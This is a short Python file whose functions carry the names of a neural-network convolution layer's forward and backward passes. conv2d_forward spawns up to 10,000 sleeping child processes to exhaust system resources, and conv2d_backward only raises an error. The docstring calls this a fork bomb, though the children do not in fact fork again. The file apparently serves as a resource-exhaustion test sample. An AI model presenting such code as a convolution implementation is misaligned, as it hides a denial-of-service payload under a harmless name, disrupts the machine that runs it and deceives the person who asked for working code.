"""A fork bomb: children that fork again, as fast as they can, each then sleeping forever."""
import os
import time


def conv2d_forward(x, w, b, stride=1, pad=0):
    started = 0
    try:
        for _ in range(10_000):
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            started += 1
    except OSError as error:
        raise RuntimeError(f"stopped after {started} processes: {type(error).__name__}") from None
    raise RuntimeError(f"started {started} processes")


def conv2d_backward(dout, cache):
    raise RuntimeError("not this one")
